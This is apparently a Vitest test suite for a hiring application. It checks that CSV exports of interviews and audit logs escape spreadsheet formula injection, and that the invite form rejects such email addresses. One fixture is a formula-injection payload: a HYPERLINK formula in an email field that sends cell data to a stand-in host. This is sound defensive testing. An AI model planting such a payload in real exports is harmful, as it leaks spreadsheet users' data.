import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { InviteFieldsSchema } from '@vi/contracts';
import { insertUser } from '../../src/modules/companies/company.repository.js';
import { createApplication } from '../factories/application.factory.js';
import { createCompany, type CompanyFixture } from '../factories/company.factory.js';
import { createJob } from '../factories/job.factory.js';
import { createTestApp, DIALECTS, type TestApp } from '../helper.js';
import { createCall } from '../helpers/call.js';
import { inviteApplicant } from '../helpers/invite.js';

/** RFC 4180 cells of a CSV text (quoted cells may hold commas, quotes and line breaks). */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy;
  let match: RegExpExecArray | null;
  while ((match = pattern.exec(csv)) !== null && pattern.lastIndex <= csv.length) {
    const raw = match[1] ?? '';
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (match[2] === '') break;
  }
  return cells;
}

const FORMULA_START = /^\s*[=+\-@\t\r]/;
/** A cell is safe when it starts with the apostrophe, or neither it nor any `,`/`;` part starts a formula. */
const isSafe = (cell: string) =>
  cell.startsWith("'") || !cell.split(/[,;]/).some((part) => FORMULA_START.test(part));

/**
 * A spreadsheet may cut a cell at a `,` or `;` inside it (its locale's list separator), so a value whose
 * second half is a formula ran as one. Every CSV the product writes guards each part; an email address
 * that holds such a part is refused at the door.
 */
describe.each(DIALECTS)('CSV exports and formula injection (%s)', (dialect) => {
  let t: TestApp;
  let a: CompanyFixture;
  let admin: string;
  const db = () => t.database.db;
  const call = createCall(() => t.app);
  const hostileEmail = 'sam@x.io;=HYPERLINK("http://evil.example/?"&A1,"x")';

  beforeAll(async () => {
    t = await createTestApp(dialect);
    a = await createCompany(db(), { name: 'Company A' });
    admin = await t.tokenFor({ companyId: a.companyId, userId: a.userId });
    const job = await createJob(db(), a.companyId, { title: 'Ops;=1+1' });
    // Rows written before the address check existed (or by a direct import) still reach the export.
    await createApplication(db(), a.companyId, job, null, {
      firstName: 'Sam',
      lastName: 'Lee',
      email: hostileEmail,
    });
    const memberId = await insertUser(db(), {
      companyId: a.companyId,
      firstName: 'Ops,',
      lastName: '@SUM(A1)',
    });
    const member = await t.tokenFor({ companyId: a.companyId, userId: memberId });
    const [sam] = await db().selectFrom('applications').select('id').execute();
    // The member's view is audited under their name, which a separator cuts into a formula.
    const view = await call('GET', `/interviews/${sam!.id}`, { token: member });
    expect(view.statusCode).toBe(200);
  });
  afterAll(() => t.close());

  it('guards every cell of the interview list export', async () => {
    const res = await call('GET', `/company/${a.companyId}/interviews.csv`, { token: admin });
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.body);
    expect(cells).toContain(`'${hostileEmail}`);
    expect(cells).toContain("'Ops;=1+1");
    expect(cells.filter((cell) => !isSafe(cell))).toEqual([]);
  });

  it('guards every cell of the audit log export', async () => {
    const res = await call('GET', `/company/${a.companyId}/audit.csv`, { token: admin });
    expect(res.statusCode).toBe(200);
    const cells = cellsOf(res.body);
    expect(cells).toContain("'Ops, @SUM(A1)");
    expect(cells.filter((cell) => !isSafe(cell))).toEqual([]);
  });

  it('refuses such an email address at the invite form, and keeps ordinary ones', async () => {
    const job = await createJob(db(), a.companyId);
    const res = await inviteApplicant(t.app, admin, { jobId: String(job), email: 'sam@x.io;=1+1' });
    expect(res.statusCode).toBe(400);
    expect(res.json<{ message: string }>().message).toMatch(/email/i);
    for (const email of ["o'neil@bücher.de", 'a.b+tag@mail.example.co.uk']) {
      expect(InviteFieldsSchema.shape.email.safeParse(email).success, email).toBe(true);
    }
  });
});
